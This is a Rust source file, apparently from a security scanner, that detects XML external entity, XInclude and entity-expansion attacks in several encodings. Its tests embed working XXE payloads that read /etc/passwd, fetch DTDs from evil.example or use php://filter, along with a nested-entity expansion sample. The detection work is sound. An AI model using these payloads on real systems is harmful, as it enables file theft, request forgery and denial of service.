//! XML entities: does a document make its parser read a file, fetch an address, or expand without end
//! (CWE-611, CWE-776).
//!
//! A document type declaration is read as XML's grammar has it, in UTF-8, UTF-16 and UTF-7: an entity of an
//! external identifier, a parameter entity, an entity made of others, an external subset that is no standard's
//! own; XInclude too. A declaration of HTML or of a standard document type is ordinary.

use std::borrow::Cow;

use crate::finding::{Finding, Language};
use crate::reading::{Hit, judge};
use crate::text::{Bytes, at, cut, find, find_from, has, has_any, rest, run, skip_space, stands};

const MARKS: Bytes = Bytes::of(b"<+%&");

/// How much of a declaration is read.
const LONGEST: usize = 64 * 1024;

/// Finds a document whose entities reach outside of it, or expand without end.
///
/// Costs time linear in the input.
#[must_use]
pub fn xxe(input: &[u8]) -> Option<Finding> {
    if !MARKS.any(input) {
        return None;
    }
    judge(Language::Xml, input, |text| {
        let plain = plain(text);
        let hit = read(&plain)?;
        let span = if matches!(plain, Cow::Borrowed(_)) { hit.span.clone() } else { 0..text.len() };
        Some(Hit { span, ..hit })
    })
}

/// The text in ASCII, where it is UTF-16 or UTF-7.
fn plain(text: &[u8]) -> Cow<'_, [u8]> {
    let wide = text.len() >= 8
        && (memchr::memmem::find(text, b"<\0!\0").is_some()
            || memchr::memmem::find(text, b"\0<\0!").is_some()
            || memchr::memmem::find(text, b"\0<\0x\0i\0:\0i").is_some());
    if wide {
        return Cow::Owned(text.iter().copied().filter(|&byte| byte != 0).collect());
    }
    if memchr::memmem::find(text, b"+ADw-").is_some() {
        let mut made = Vec::with_capacity(text.len());
        let mut index = 0;
        while index < text.len() {
            let (letter, length) = match cut(text, index..index + 5) {
                b"+ADw-" => (b'<', 5),
                b"+AD4-" => (b'>', 5),
                b"+ACE-" => (b'!', 5),
                b"+ACI-" => (b'"', 5),
                b"+AFs-" => (b'[', 5),
                b"+AF0-" => (b']', 5),
                b"+ACU-" => (b'%', 5),
                b"+ADs-" => (b';', 5),
                b"+AD0-" => (b'=', 5),
                b"+ACY-" => (b'&', 5),
                _ => (at(text, index), 1),
            };
            made.push(letter);
            index += length;
        }
        return Cow::Owned(made);
    }
    Cow::Borrowed(text)
}

fn read(text: &[u8]) -> Option<Hit> {
    let hit = |place: usize, why: &'static str, shape: &'static str| {
        Some(Hit::new("an XML document", place..text.len(), why, shape))
    };
    if let Some(place) = include(text) {
        return hit(place, "it includes another document", "<xi:include");
    }
    let mut from = 0;
    while let Some(place) = find_from(text, from, b"<!DOCTYPE") {
        from = place + 9;
        let declaration = cut(text, place..place + LONGEST);
        let open = run(declaration, 9, |byte| !matches!(byte, b'[' | b'>'));
        if is_external(cut(declaration, 9..open), true) {
            return hit(place, "its declaration is fetched from elsewhere", "<!DOCTYPE SYSTEM");
        }
        if at(declaration, open) == b'[' {
            from = place + open;
        }
    }
    from = 0;
    let doctype = has(text, b"<!DOCTYPE");
    let mut names: Vec<&[u8]> = Vec::new();
    while let Some(place) = find_from(text, from, b"<!ENTITY") {
        from = place + 8;
        let mut index = skip_space(text, from);
        if index == from {
            continue;
        }
        if at(text, index) == b'%' {
            let next = skip_space(text, index + 1);
            if next > index + 1 && at(text, next).is_ascii_alphabetic() {
                return hit(place, "it declares a parameter entity", "<!ENTITY %");
            }
            continue;
        }
        let end = run(text, index, |byte| !byte.is_ascii_whitespace() && byte != b'>');
        let name = cut(text, index..end);
        index = skip_space(text, end);
        let value = cut(text, index..index + 4096);
        if is_external(value, false) {
            return hit(place, "it declares an entity that is read from elsewhere", "<!ENTITY SYSTEM");
        }
        let quote = at(value, 0);
        if !matches!(quote, b'"' | b'\'') {
            continue;
        }
        let inside =
            cut(value, 1..memchr::memchr(quote, rest(value, 1)).map_or(value.len(), |length| length + 1));
        let refers = memchr::memchr(b'&', inside).is_some_and(|place| at(inside, place + 1) != b'#')
            || memchr::memchr(b'%', inside).is_some();
        if refers {
            return hit(place, "it declares an entity made of others", "<!ENTITY &");
        }
        if names.len() < 64 {
            names.push(name);
        }
    }
    // An entity that is declared and used: somebody tries whether entities are expanded.
    if doctype && names.iter().any(|name| name.len() < 64 && find_reference(text, name)) {
        return hit(0, "it declares an entity and uses it", "<!ENTITY");
    }
    None
}

fn find_reference(text: &[u8], name: &[u8]) -> bool {
    memchr::memchr_iter(b'&', text)
        .any(|place| stands(text, place + 1, name) && at(text, place + 1 + name.len()) == b';')
}

/// `SYSTEM "…"` or `PUBLIC "…" "…"`; of a whole declaration, those of standards and of files beside it are
/// ordinary.
fn is_external(text: &[u8], declaration: bool) -> bool {
    let start = if declaration {
        let name = skip_space(text, 0);
        skip_space(text, run(text, name, |byte| !byte.is_ascii_whitespace()))
    } else {
        0
    };
    let system = stands(text, start, b"SYSTEM");
    let public = stands(text, start, b"PUBLIC");
    if !system && !public {
        return false;
    }
    let rest_of = rest(text, start + 6);
    let quoted = memchr::memchr2(b'"', b'\'', rest_of).is_some_and(|place| place < 40);
    if !declaration {
        return quoted;
    }
    if system {
        return quoted && has(rest_of, b"://")
            || has_any(rest_of, &[b"\"/", b"'/", b"file:", b"\"\\\\", b"php:", b"..\\", b"../"]);
    }
    // A formal public identifier belongs to a standard.
    let identifier = rest(rest_of, skip_space(rest_of, 0) + 1);
    let formal = has(cut(identifier, 0..8), b"//")
        && (identifier.starts_with(b"-//")
            || identifier.starts_with(b"+//")
            || identifier.starts_with(b"ISO"));
    quoted && has_any(rest_of, &[b"://", b"file:"]) && !formal
}

/// `<xi:include href="…">`, whatever the prefix.
fn include(text: &[u8]) -> Option<usize> {
    let namespace = find(text, b"http://www.w3.org/2001/XInclude")?;
    let mut from = 0;
    while let Some(place) = find_from(text, from, b"include") {
        from = place + 7;
        let tag = text.iter().take(place).rposition(|&byte| byte == b'<');
        let near = tag.is_some_and(|tag| place - tag < 24);
        if near && has(cut(text, place..place + 512), b"href") {
            return Some(tag.unwrap_or(namespace));
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::xxe;

    #[test]
    fn an_entity_that_reaches_out_is_found() {
        let wide: Vec<u8> = "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"
            .bytes()
            .flat_map(|byte| [byte, 0])
            .collect();
        let attacks: Vec<Vec<u8>> = [
            "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>", "<!DOCTYPE r [<!ENTITY % sp SYSTEM \"http://evil.example/x.dtd\">%sp;]><r/>", "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;\">]><lolz>&lol2;</lolz>", "<!DOCTYPE foo SYSTEM \"http://evil.example/x.dtd\"><foo/>", "<!DOCTYPE foo PUBLIC \"x\" \"http://evil.example/x.dtd\"><foo/>", "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></foo>", "<!DOCTYPE foo [<!ENTITY xxe PUBLIC \"a\" \"php://filter/x\">]><foo>&xxe;</foo>", "<!doctype foo [<!entity x \"test\">]><foo>&x;</foo>", "+ADw-!DOCTYPE a +AFs-+ADw-!ENTITY b SYSTEM +ACI-file:///x+ACI-+AD4-", "%3C!DOCTYPE%20a%20[%3C!ENTITY%20b%20SYSTEM%20%22file:///x%22%3E]%3E",
        ].iter().map(|value| value.as_bytes().to_vec()).chain([wide]).collect();
        let missed: Vec<_> = attacks
            .iter()
            .filter(|value| xxe(value).is_none())
            .map(|value| String::from_utf8_lossy(value))
            .collect();
        assert!(missed.is_empty(), "{missed:#?}");
    }

    #[test]
    fn a_standard_document_type_is_left_alone() {
        let ordinary = [
            "<!DOCTYPE html>",
            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
            "<!DOCTYPE html SYSTEM \"about:legacy-compat\">",
            "<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">",
            "<!DOCTYPE note SYSTEM \"note.dtd\">",
            "the DOCTYPE and ENTITY keywords",
            "<a>&amp;</a>",
            "#include <xinclude.h>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"/>",
        ];
        let alarms: Vec<_> = ordinary.into_iter().filter(|value| xxe(value.as_bytes()).is_some()).collect();
        assert!(alarms.is_empty(), "{alarms:#?}");
    }
}
